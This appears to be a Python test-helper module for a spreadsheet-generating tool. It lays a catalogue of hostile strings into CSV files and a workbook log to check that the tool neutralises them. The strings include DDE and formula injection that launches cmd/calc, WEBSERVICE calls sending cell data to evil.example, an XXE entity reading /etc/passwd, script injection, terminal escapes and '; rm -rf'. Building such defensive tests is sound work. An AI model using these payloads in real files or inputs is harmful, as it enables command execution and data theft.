"""Texts that try to become more than texts, by what each tries, and files and a workbook that are full of them."""

import csv
import re
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from xml.etree import ElementTree

import tokensheet as ts
from tokensheet.numbers import DEFAULTS
from tokensheet.rents import BASES, BASIS
from tokensheet.rows import is_text, known_names, plain
from tokensheet.texts import name_of
from tokensheet_templates.declared import line, number, pick, picks
from tokensheet_templates.kernel import Kernel
from tokensheet_templates.log import FIRST_ENTRY
from tokensheet_templates.template import Workbook, template

ATTACKS: dict[str, tuple[str, ...]] = {
    "compute": (
        "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "{=1+1}", "'=1+1", "''=1+1",
        '"=1+1', "=1+1;=2+2", "x;=1+1", "x\t=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=A1", "=$A$1:$A$9", "=#REF!",
        "=1/0", "=Catalogue!A1", "=[1]Sheet1!A1", "of:=1+1", "+A1", "-A1", "=ROW()", "==1", "=", "+", "-", "@",
    ),
    "start a program": (
        "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(cmd|' /C calc'!A0)",
        "cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")',
        '=MSEXCEL|\'\\..\\..\\Windows\\System32\\cmd.exe /c calc\'!\'\'',
        '=CALL("kernel32","WinExec","JCJ","calc",0)',
    ),
    "link elsewhere": (
        '=HYPERLINK("http://evil.example","click")', '=WEBSERVICE("http://evil.example/"&A1)', "http://evil.example",
        "https://evil.example/?q=1", "ftp://evil.example", "mailto:a@evil.example", "file:///etc/passwd",
        r"external:\\evil\share\x.xlsx", "internal:Board!A1", r"\\evil\share\x.xlsx", "javascript:alert(1)",
        "=IMPORTXML(\"http://evil.example\",\"//a\")", "http://evil.example/" + "a" * 2079, "www.evil.example",
    ),
    "break XML or a page": (
        "]]>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&quot;", "&amp;lt;", "&#0;", "&#x41;",
        '"><x y="', "'><x y='", "<!--", "<?xml?>", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>", "&y;",
        "<r><t>x</t></r>", "<r>&</r>", "</t></si>", "{{7*7}}", "${7*7}", "{0}", "%s%n",
    ),
    "be read as an escape": (
        "_x0041_", "_x000D_", "_xD800_", r"\u0041", r"\x41", r"\n", "%41", "&A&D&P", "&[Path]",
    ),
    "be no text": (
        "\x00", "a\x00b", "\x01\x08\x0b\x0c\x0e\x1f", "\x7f", "\x85\x9b31m", "\ufffe", "\uffff", "\ud800", "\udfff",
        "x\udc80y", "\U0001ffff", "\r\n", "a\rb", "a\nb",
    ),
    "steer a terminal": (
        "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07", "\x9b2J", "a\x08b",
        "\rover", "[red]x[/red]", "[link=http://evil.example]x[/link]", "[/]", "[bold",
    ),
    "look like another": (
        "\u202etxt.exe", "\u2066a\u2069", "\u200bx", "x\u00a0y", "e\u0301", " x ", "  ", "\u3000",
    ),
    "be taken for a name": (
        "X1", "X?", "X*", "~X1", "*", "?", "A1", "R1C1", "H100", "TRUE", "#N/A", "#DIV/0!", "1E5", "1e309", "nan",
        "inf", "2026-11-27", "00123", "None", "a,b", "a;b", "a / b", "Value", "Unit",
    ),
    "be a sheet": (
        "Board", "'Board'!A1", "a[b]c", "a:b", "a/b\\c", "History", "x" * 32,
    ),
    "be too long": (
        "n" * 100, "n" * 101, "v" * 255, "v" * 256, '"' * 256, "x" * 32_767, "x" * 32_768, "\U0001f600" * 16_384,
        "x" * 100_000,
    ),
    "leave a string of a language": (
        '"', '""', '"&A1&"', "'", "`", "\\", '\\"', "a'b\"c", '"\nEnd Function\nSub x()', '")+("', "'''", '"""',
        "\\N{BELL}", "$(x)", "`x`", "; rm -rf", "--help", "-h",
    ),
}  # fmt: skip

TEXTS = list(dict.fromkeys(text for texts in ATTACKS.values() for text in texts))
HARMLESS = [f"harmless {number}" for number in range(len(TEXTS))]
CHIP = {"bf16_flops": 1e15, "hbm_bytes": 8e10, "hbm_bandwidth": 3e12, "usd_per_hour": 2}
MODEL = dict(total_params=7e9, active_params=7e9, kv_bytes_per_token=131072, layers=32, full_attention_layers=32,
             hidden=4096, heads=32, kv_heads=8, head_dim=128)  # fmt: skip


def in_a_file(text: str) -> str:
    """As a file may hold it: one with NUL in it is not read at all."""
    return text.replace("\0", "\x01")


def lay(folder: Path, texts: list[str]) -> tuple[list[str], list[str]]:
    """Lay files over the catalogue that have each text in every column of text; gives the chips' and models' names."""
    files = [folder / "chips.csv", folder / "models.csv"]
    columns = [list(ts.chips()["H100 SXM"]), list(ts.models()["Llama-3.1-8B"])]
    before = len(ts.chips()), len(ts.models())
    for file, known, numbers in zip(files, columns, (CHIP, MODEL), strict=True):
        free = [each for each in known if is_text(each) and "date" not in each and each not in ("name", "aliases")]
        with file.open("w", encoding="utf-8", errors="replace", newline="") as opened:
            table = csv.DictWriter(opened, ["name", *free, *numbers])
            table.writeheader()
            table.writerows(
                dict.fromkeys(free, text) | {"name": name} | numbers for name, text in named([*map(in_a_file, texts)])
            )
    ts.use_catalogue(*files)
    return list(ts.chips())[before[0] :], list(ts.models())[before[1] :]


def named(texts: list[str]) -> Iterator[tuple[str, str]]:
    """Each text with the name that comes closest to it: itself, with a number, or a harmless one."""
    taken = {*known_names(ts.chips()), *known_names(ts.models())}
    for row, text in enumerate(texts):
        name = next(each for each in (text, f"{text} {row}", f"name {row}") if is_free(each, taken))
        taken.add(plain(name))
        yield name, text


def is_free(name: str, taken: set[str]) -> bool:
    try:
        return plain(name_of(name)) not in taken
    except ValueError:
        return False


def of_catalogue(chips: list[str], models: list[str], texts: list[str]) -> Workbook:
    """A workbook of a plugin with a Catalogue of all these, and each text in its Log."""
    inputs = {
        "Picks": [
            picks("chip", "Chip", chips, "chip"), picks("model", "Model", models, "model"),
            pick("price_basis", "Price basis", BASIS, BASES),
            *(number(key, key, "number", DEFAULTS.get(key, 64e9), 1, 1e12) for key in ("pcie", "nic", "node")),
        ]
    }  # fmt: skip

    @template("attack", "Attack", audience="Nobody.", how="Not at all.", sheets={}, inputs=inputs)
    def attack(book: Kernel) -> None:
        """A catalogue and no calculation."""
        book.catalogue(market=True)
        book.page("Board", "Nothing.").lay("Nothing", [line("same", "Same", "ratio", lambda old: old)])

    typed = {("Log", FIRST_ENTRY + row, 0): text for row, text in enumerate(texts)}
    return replace(attack(), typed=typed)


def links_of(path: Path) -> list[str]:
    """Whatever in a workbook's package leads out of it."""
    found = []
    with zipfile.ZipFile(path) as parts:
        for name in parts.namelist():
            found += [name] if re.search("external|connection|ddeLink|oleLink|vba", name, re.IGNORECASE) else []
            if name.endswith((".xml", ".rels")):
                for element in ElementTree.fromstring(parts.read(name)).iter():
                    outside = element.get("TargetMode") == "External"
                    found += [f"{name}: {element.attrib}"] if outside else []
    return found
